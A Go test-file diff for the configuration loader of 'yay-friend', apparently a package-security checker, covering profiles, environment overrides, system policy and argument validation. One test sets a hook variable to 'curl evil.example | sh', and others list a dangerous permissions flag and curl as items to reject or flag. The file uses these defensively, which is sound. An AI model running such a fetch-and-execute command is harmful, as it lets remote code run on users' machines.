@@ -3,7 +3,11 @@ package config
 import (
 	"os"
 	"path/filepath"
+	"slices"
+	"strings"
 	"testing"
+
+	"github.com/aaronsb/yay-friend/internal/types"
 )
 
 func TestLoadOverlayOnDefaults(t *testing.T) {
@@ -15,7 +19,7 @@ func TestLoadOverlayOnDefaults(t *testing.T) {
 	SetConfigPath(path)
 	defer SetConfigPath("")
 
-	cfg, err := Load()
+	cfg, _, err := Load()
 	if err != nil {
 		t.Fatalf("Load: %v", err)
 	}
@@ -36,13 +40,16 @@ func TestLoadMissingFileUsesDefaults(t *testing.T) {
 	SetConfigPath(filepath.Join(t.TempDir(), "does-not-exist.yaml"))
 	defer SetConfigPath("")
 
-	cfg, err := Load()
+	cfg, _, err := Load()
 	if err != nil {
 		t.Fatalf("Load with missing file should succeed: %v", err)
 	}
 	if cfg.Claude.Model != DefaultClaudeModel {
 		t.Errorf("Claude.Model = %q, want default %q", cfg.Claude.Model, DefaultClaudeModel)
 	}
+	if !cfg.UI.ShowEducation {
+		t.Error("UI.ShowEducation = false, want educational output on by default")
+	}
 }
 
 func TestLoadRejectsInvalidConfig(t *testing.T) {
@@ -54,11 +61,51 @@ func TestLoadRejectsInvalidConfig(t *testing.T) {
 	SetConfigPath(path)
 	defer SetConfigPath("")
 
-	if _, err := Load(); err == nil {
+	if _, _, err := Load(); err == nil {
 		t.Error("expected Load to reject invalid default_provider, got nil error")
 	}
 }
 
+func TestLoadRejectsNegativeDependencyDepth(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.yaml")
+	if err := os.WriteFile(path, []byte("analysis:\n  dependency_depth: -1\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	SetConfigPath(path)
+	defer SetConfigPath("")
+
+	if _, _, err := Load(); err == nil || !strings.Contains(err.Error(), "dependency_depth") {
+		t.Errorf("expected Load to reject a negative dependency_depth, got %v", err)
+	}
+}
+
+func TestValidateFile(t *testing.T) {
+	cases := []struct {
+		name, content string
+		valid         bool
+	}{
+		{"empty", "", true},
+		{"partial", "claude:\n  model: opus\n", true},
+		{"unknown key", "claude:\n  modle: opus\n", false},
+		{"type mismatch", "cache:\n  enabled: notabool\n", false},
+		{"invalid value", "default_provider: bogus\n", false},
+		{"malformed", "claude: [\n", false},
+		{"missing rules dir", "scanner:\n  rules_dir: /nonexistent/yay-friend-rules\n", false},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "config.yaml")
+			if err := os.WriteFile(path, []byte(tc.content), 0644); err != nil {
+				t.Fatal(err)
+			}
+			if err := ValidateFile(path); (err == nil) != tc.valid {
+				t.Errorf("ValidateFile = %v, want valid %v", err, tc.valid)
+			}
+		})
+	}
+}
+
 func TestSetRoundTrip(t *testing.T) {
 	path := filepath.Join(t.TempDir(), "config.yaml")
 	SetConfigPath(path)
@@ -67,7 +114,7 @@ func TestSetRoundTrip(t *testing.T) {
 	if err := Set("claude.model", "opus"); err != nil {
 		t.Fatalf("Set: %v", err)
 	}
-	cfg, err := Load()
+	cfg, _, err := Load()
 	if err != nil {
 		t.Fatalf("Load: %v", err)
 	}
@@ -90,7 +137,7 @@ func TestSetCreatesFileAtOverridePath(t *testing.T) {
 	if _, err := os.Stat(path); err != nil {
 		t.Fatalf("Set did not create the file at the override path: %v", err)
 	}
-	cfg, err := Load()
+	cfg, _, err := Load()
 	if err != nil {
 		t.Fatalf("Load: %v", err)
 	}
@@ -110,7 +157,7 @@ func TestSetPreservesScalarTypes(t *testing.T) {
 	if err := Set("cache.max_age_days", "30"); err != nil {
 		t.Fatalf("Set int: %v", err)
 	}
-	cfg, err := Load()
+	cfg, _, err := Load()
 	if err != nil {
 		t.Fatalf("Load: %v", err)
 	}
@@ -122,6 +169,49 @@ func TestSetPreservesScalarTypes(t *testing.T) {
 	}
 }
 
+func TestSetKeepsProfileInEffect(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "sub", "config.yaml")
+	SetConfigPath(path)
+	defer SetConfigPath("")
+
+	if err := Set("analysis.profile", "strict"); err != nil {
+		t.Fatalf("Set: %v", err)
+	}
+	cfg, sources, _, err := load()
+	if err != nil {
+		t.Fatalf("load: %v", err)
+	}
+	if cfg.SecurityThresholds.BlockLevel != types.EntropyHigh || cfg.SecurityThresholds.WarnLevel != types.EntropyLow {
+		t.Errorf("thresholds = block %s, warn %s; want the strict profile's HIGH and LOW",
+			cfg.SecurityThresholds.BlockLevel, cfg.SecurityThresholds.WarnLevel)
+	}
+	if got := sources["security_thresholds.block_level"]; got != "profile strict" {
+		t.Errorf("block_level came from %q, want profile strict", got)
+	}
+}
+
+func TestInitializeConfigKeepsProfileInEffect(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	SetConfigPath(path)
+	defer SetConfigPath("")
+
+	if err := InitializeConfig(); err != nil {
+		t.Fatalf("InitializeConfig: %v", err)
+	}
+	if err := ValidateFile(path); err != nil {
+		t.Fatalf("starter config is invalid: %v", err)
+	}
+	SetProfile("lenient")
+	defer SetProfile("")
+	cfg, _, err := Load()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if cfg.SecurityThresholds.WarnLevel != types.EntropyHigh {
+		t.Errorf("warn_level = %s after config init, want the lenient profile's HIGH", cfg.SecurityThresholds.WarnLevel)
+	}
+}
+
 func TestSetRejectsBadInput(t *testing.T) {
 	cases := []struct {
 		name, key, value string
@@ -185,3 +275,417 @@ func TestSetNested(t *testing.T) {
 		}
 	})
 }
+
+func TestLoadClaudeArgs(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.yaml")
+	SetConfigPath(path)
+	defer SetConfigPath("")
+
+	if err := os.WriteFile(path, []byte("claude:\n  args: [\"--add-dir\", \"/tmp/x\"]\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, _, err := Load()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if len(cfg.Claude.Args) != 2 || cfg.Claude.Args[0] != "--add-dir" {
+		t.Errorf("Claude.Args = %v, want [--add-dir /tmp/x]", cfg.Claude.Args)
+	}
+
+	rejected := []string{
+		"claude:\n  args: \"--add-dir /tmp/x\"\n",                 // not a list
+		"claude:\n  args: [\"\"]\n",                               // empty argument
+		"claude:\n  args: [\"--dangerously-skip-permissions\"]\n", // defeats isolation
+		"claude:\n  args: [\"--output-format=text\"]\n",           // breaks parsing
+	}
+	for _, content := range rejected {
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, _, err := Load(); err == nil {
+			t.Errorf("expected Load to reject %q", content)
+		}
+	}
+}
+
+func TestLoadSuspiciousCommands(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.yaml")
+	SetConfigPath(path)
+	defer SetConfigPath("")
+
+	cfg, _, err := Load()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if len(cfg.Scanner.SuspiciousCommands) == 0 {
+		t.Error("default suspicious_commands list is empty")
+	}
+
+	content := "scanner:\n  suspicious_commands:\n    - command: curl\n      level: 3\n"
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, _, err = Load()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if got := cfg.Scanner.SuspiciousCommands; len(got) != 1 || got[0].Command != "curl" || got[0].Level != 3 {
+		t.Errorf("SuspiciousCommands = %+v, want the file's list to replace the defaults", got)
+	}
+
+	rejected := []string{
+		"scanner:\n  suspicious_commands:\n    - command: \"\"\n      level: 2\n",
+		"scanner:\n  suspicious_commands:\n    - command: curl\n      level: 7\n",
+	}
+	for _, content := range rejected {
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, _, err := Load(); err == nil {
+			t.Errorf("expected Load to reject %q", content)
+		}
+	}
+}
+
+func TestLoadTypeFloors(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.yaml")
+	SetConfigPath(path)
+	defer SetConfigPath("")
+
+	content := "security:\n  type_floors:\n    malicious_code: 3\n    code_execution: 3\n"
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, _, err := Load()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if got := cfg.Security.TypeFloors; len(got) != 2 || got["malicious_code"] != types.SecurityHigh {
+		t.Errorf("TypeFloors = %v, want malicious_code and code_execution at HIGH", got)
+	}
+
+	if err := os.WriteFile(path, []byte("security:\n  type_floors:\n    malicious_code: 9\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, _, err := Load(); err == nil {
+		t.Error("expected Load to reject a type floor above 4")
+	}
+}
+
+func TestLoadAppliesProfileUnderExplicitKeys(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.yaml")
+	yaml := "analysis:\n  profile: strict\nsecurity_thresholds:\n  block_level: 4\n"
+	if err := os.WriteFile(path, []byte(yaml), 0644); err != nil {
+		t.Fatal(err)
+	}
+	SetConfigPath(path)
+	defer SetConfigPath("")
+
+	cfg, _, err := Load()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if cfg.Analysis.Profile != "strict" {
+		t.Errorf("Analysis.Profile = %q, want strict", cfg.Analysis.Profile)
+	}
+	// From the profile.
+	if cfg.SecurityThresholds.WarnLevel != types.SecurityLow {
+		t.Errorf("WarnLevel = %v, want LOW from strict profile", cfg.SecurityThresholds.WarnLevel)
+	}
+	if cfg.SecurityThresholds.MinVotes != 10 {
+		t.Errorf("MinVotes = %d, want 10 from strict profile", cfg.SecurityThresholds.MinVotes)
+	}
+	// Explicit key in the file wins over the profile.
+	if cfg.SecurityThresholds.BlockLevel != types.SecurityCritical {
+		t.Errorf("BlockLevel = %v, want CRITICAL from the file", cfg.SecurityThresholds.BlockLevel)
+	}
+}
+
+func TestSetProfileOverridesFile(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.yaml")
+	if err := os.WriteFile(path, []byte("analysis:\n  profile: strict\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	SetConfigPath(path)
+	defer SetConfigPath("")
+	SetProfile("lenient")
+	defer SetProfile("")
+
+	cfg, _, err := Load()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if cfg.Analysis.Profile != "lenient" {
+		t.Errorf("Analysis.Profile = %q, want lenient", cfg.Analysis.Profile)
+	}
+	if cfg.SecurityThresholds.BlockLevel != types.SecurityCritical {
+		t.Errorf("BlockLevel = %v, want CRITICAL from lenient profile", cfg.SecurityThresholds.BlockLevel)
+	}
+}
+
+func TestLoadRejectsUnknownProfile(t *testing.T) {
+	SetConfigPath(filepath.Join(t.TempDir(), "does-not-exist.yaml"))
+	defer SetConfigPath("")
+	SetProfile("paranoid")
+	defer SetProfile("")
+
+	if _, _, err := Load(); err == nil {
+		t.Fatal("Load accepted an unknown profile")
+	}
+}
+
+func TestLoadEnvOverridesFile(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	if err := os.WriteFile(path, []byte("default_provider: qwen\nclaude:\n  model: opus\ncache:\n  max_age_days: 30\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	SetConfigPath(path)
+	defer SetConfigPath("")
+
+	t.Setenv("YAY_FRIEND_PROVIDER", "claude")
+	t.Setenv("YAY_FRIEND_CLAUDE_STREAM_PARTIAL", "true")
+	t.Setenv("YAY_FRIEND_CACHE_ENABLED", "false")
+	t.Setenv("YAY_FRIEND_SECURITY_THRESHOLDS_MIN_POPULARITY", "0.5")
+	t.Setenv("YAY_FRIEND_CLAUDE_ARGS", "--add-dir /tmp/x")
+
+	cfg, _, err := Load()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if cfg.DefaultProvider != "claude" || !cfg.Claude.StreamPartial {
+		t.Errorf("provider = %q, stream_partial = %v; want the environment's values", cfg.DefaultProvider, cfg.Claude.StreamPartial)
+	}
+	if cfg.Cache.Enabled || cfg.SecurityThresholds.MinPopularity != 0.5 {
+		t.Errorf("cache.enabled = %v, min_popularity = %v; want false and 0.5", cfg.Cache.Enabled, cfg.SecurityThresholds.MinPopularity)
+	}
+	// Keys without a variable keep the file's value.
+	if cfg.Claude.Model != "opus" || cfg.Cache.MaxAgeDays != 30 {
+		t.Errorf("model = %q, max_age_days = %d; want the file's opus and 30", cfg.Claude.Model, cfg.Cache.MaxAgeDays)
+	}
+	// Claude arguments are only read when asked for.
+	if len(cfg.Claude.Args) != 0 {
+		t.Errorf("Claude.Args = %v without SetProviderArgsFromEnv, want none", cfg.Claude.Args)
+	}
+
+	SetProviderArgsFromEnv(true)
+	defer SetProviderArgsFromEnv(false)
+	if cfg, _, err = Load(); err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if len(cfg.Claude.Args) != 2 || cfg.Claude.Args[1] != "/tmp/x" {
+		t.Errorf("Claude.Args = %v, want [--add-dir /tmp/x]", cfg.Claude.Args)
+	}
+
+	t.Setenv("YAY_FRIEND_CLAUDE_ARGS", "--dangerously-skip-permissions")
+	if _, _, err := Load(); err == nil {
+		t.Error("expected Load to reject a managed flag from YAY_FRIEND_CLAUDE_ARGS")
+	}
+	t.Setenv("YAY_FRIEND_CLAUDE_ARGS", "")
+	t.Setenv("YAY_FRIEND_CACHE_MAX_AGE_DAYS", "soon")
+	if _, _, err := Load(); err == nil {
+		t.Error("expected Load to reject a non-numeric YAY_FRIEND_CACHE_MAX_AGE_DAYS")
+	}
+}
+
+func TestLoadEnvCannotAllowSkip(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	if err := os.WriteFile(path, []byte("security:\n  allow_skip: false\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	SetConfigPath(path)
+	defer SetConfigPath("")
+
+	t.Setenv("YAY_FRIEND_SECURITY_ALLOW_SKIP", "true")
+	cfg, _, err := Load()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if cfg.Security.AllowSkip {
+		t.Error("YAY_FRIEND_SECURITY_ALLOW_SKIP re-enabled skipping that the config file turned off")
+	}
+
+	// The environment can still make analysis mandatory.
+	SetConfigPath(filepath.Join(t.TempDir(), "missing.yaml"))
+	t.Setenv("YAY_FRIEND_SECURITY_ALLOW_SKIP", "false")
+	if cfg, _, err = Load(); err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if cfg.Security.AllowSkip {
+		t.Error("YAY_FRIEND_SECURITY_ALLOW_SKIP=false did not turn skipping off")
+	}
+}
+
+func TestSystemPolicyOverridesUserConfig(t *testing.T) {
+	requireRootOwned = false
+	defer func() { requireRootOwned = true }()
+	defer func(path string) { SystemPolicyPath = path }(SystemPolicyPath)
+
+	dir := t.TempDir()
+	SystemPolicyPath = filepath.Join(dir, "policy.yaml")
+	if err := os.WriteFile(SystemPolicyPath, []byte("security:\n  allow_skip: false\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(dir, "config.yaml")
+	if err := os.WriteFile(path, []byte("security:\n  allow_skip: true\n  trusted_repos: [core, chaotic-aur]\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	SetConfigPath(path)
+	defer SetConfigPath("")
+	t.Setenv("YAY_FRIEND_SECURITY_ALLOW_SKIP", "true")
+
+	cfg, sources, err := Explain()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if cfg.Security.AllowSkip {
+		t.Error("user config and environment re-enabled skipping that the system policy turned off")
+	}
+	if !slices.Equal(cfg.Security.TrustedRepos, []string{"core", "extra", "multilib"}) {
+		t.Errorf("trusted_repos = %q, want the defaults under a mandatory policy", cfg.Security.TrustedRepos)
+	}
+	if sources["security.allow_skip"] != SourcePolicy {
+		t.Errorf("allow_skip source = %q, want %q", sources["security.allow_skip"], SourcePolicy)
+	}
+
+	// Without a policy file the user's config stands
+	SystemPolicyPath = filepath.Join(dir, "missing.yaml")
+	if cfg, _, err = Load(); err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if !cfg.Security.AllowSkip || !slices.Equal(cfg.Security.TrustedRepos, []string{"core", "chaotic-aur"}) {
+		t.Errorf("security = %+v, want the user's config", cfg.Security)
+	}
+}
+
+func TestSystemPolicyMustBeRootOnly(t *testing.T) {
+	defer func(path string) { SystemPolicyPath = path }(SystemPolicyPath)
+	SystemPolicyPath = filepath.Join(t.TempDir(), "policy.yaml")
+	if err := os.WriteFile(SystemPolicyPath, []byte("security:\n  allow_skip: true\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	// Writable by others, and owned by the test's user unless run as root
+	if err := os.Chmod(SystemPolicyPath, 0666); err != nil {
+		t.Fatal(err)
+	}
+	SetConfigPath(filepath.Join(t.TempDir(), "missing.yaml"))
+	defer SetConfigPath("")
+	if _, _, err := Load(); err == nil {
+		t.Error("Load accepted a system policy that others can write")
+	}
+}
+
+func TestLoadEnvCanonicalBeatsAlias(t *testing.T) {
+	SetConfigPath(filepath.Join(t.TempDir(), "missing.yaml"))
+	defer SetConfigPath("")
+
+	t.Setenv("YAY_FRIEND_PROVIDER", "qwen")
+	t.Setenv("YAY_FRIEND_DEFAULT_PROVIDER", "claude")
+	for i := 0; i < 20; i++ {
+		cfg, sources, _, err := load()
+		if err != nil {
+			t.Fatalf("load: %v", err)
+		}
+		if cfg.DefaultProvider != "claude" || sources["default_provider"] != "env YAY_FRIEND_DEFAULT_PROVIDER" {
+			t.Fatalf("default_provider = %q from %q, want claude from YAY_FRIEND_DEFAULT_PROVIDER", cfg.DefaultProvider, sources["default_provider"])
+		}
+	}
+}
+
+func TestLoadEnvCannotSetCommands(t *testing.T) {
+	SetConfigPath(filepath.Join(t.TempDir(), "missing.yaml"))
+	defer SetConfigPath("")
+
+	t.Setenv("YAY_FRIEND_NAMCAP_ENABLED", "true")
+	t.Setenv("YAY_FRIEND_NAMCAP_PATH", "/tmp/evil")
+	t.Setenv("YAY_FRIEND_HOOKS_POST_ANALYSIS", "curl evil.example | sh")
+	t.Setenv("YAY_FRIEND_YAY_PATH", "/tmp/evil-yay")
+	t.Setenv("YAY_FRIEND_CLAUDE_PATH", "/tmp/evil-claude")
+	cfg, _, err := Load()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if cfg.Namcap.Enabled || cfg.Namcap.Path != "" {
+		t.Errorf("namcap = %+v, want it untouched by the environment", cfg.Namcap)
+	}
+	if cfg.Hooks.PostAnalysis != "" {
+		t.Errorf("hooks.post_analysis = %q, want it untouched by the environment", cfg.Hooks.PostAnalysis)
+	}
+	if cfg.Yay.Path != "yay" {
+		t.Errorf("yay.path = %q, want it untouched by the environment", cfg.Yay.Path)
+	}
+	if cfg.Claude.Path != "" {
+		t.Errorf("claude.path = %q, want it untouched by the environment", cfg.Claude.Path)
+	}
+}
+
+func TestLoadCompilesUserRules(t *testing.T) {
+	dir := t.TempDir()
+	rules := "rules:\n  - name: no-telemetry\n    pattern: telemetry\n    severity: high\n"
+	if err := os.WriteFile(filepath.Join(dir, "local.yaml"), []byte(rules), 0644); err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	if err := os.WriteFile(path, []byte("scanner:\n  rules_dir: "+dir+"\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	SetConfigPath(path)
+	defer SetConfigPath("")
+
+	_, got, err := Load()
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if len(got) != 1 || got[0].Name() != "no-telemetry" {
+		t.Errorf("Load rules = %v, want the no-telemetry rule", got)
+	}
+
+	SetConfigPath(filepath.Join(t.TempDir(), "missing.yaml"))
+	if _, got, err = Load(); err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if got != nil {
+		t.Errorf("Load rules = %v for a config without rules_dir, want nil", got)
+	}
+}
+
+func TestExplainSources(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	if err := os.WriteFile(path, []byte("analysis:\n  profile: strict\nsecurity_thresholds:\n  min_votes: 3\ncache:\n  max_age_days: 30\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	SetConfigPath(path)
+	defer SetConfigPath("")
+	t.Setenv("YAY_FRIEND_CACHE_MAX_AGE_DAYS", "7")
+
+	cfg, sources, err := Explain()
+	if err != nil {
+		t.Fatalf("Explain: %v", err)
+	}
+	expected := map[string]string{
+		"analysis.profile":                "config file",
+		"security_thresholds.block_level": "profile strict",
+		"security_thresholds.min_votes":   "config file",
+		"cache.max_age_days":              "env YAY_FRIEND_CACHE_MAX_AGE_DAYS",
+		"cache.enabled":                   "default",
+	}
+	for key, source := range expected {
+		if sources[key] != source {
+			t.Errorf("source of %s = %q, expected %q", key, sources[key], source)
+		}
+	}
+
+	settings := Settings(cfg, sources)
+	if len(settings) != len(sources) {
+		t.Errorf("Settings listed %d keys, sources has %d", len(settings), len(sources))
+	}
+	for _, setting := range settings {
+		if setting.Key == "cache.max_age_days" && setting.Value != "7" {
+			t.Errorf("cache.max_age_days = %q, expected 7", setting.Value)
+		}
+	}
+}